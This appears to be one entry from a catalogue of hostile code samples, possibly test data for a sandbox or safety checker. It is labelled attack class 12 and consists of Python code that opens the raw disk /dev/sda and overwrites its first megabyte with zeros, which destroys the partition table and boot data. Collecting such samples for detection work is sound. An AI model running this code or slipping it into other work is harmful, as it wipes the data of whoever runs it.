# attack-class: 12
# title: open /dev/sda for writing
# why: raw block device write

with open("/dev/sda", "wb") as disk:
    disk.write(b"\0" * 1024 * 1024)
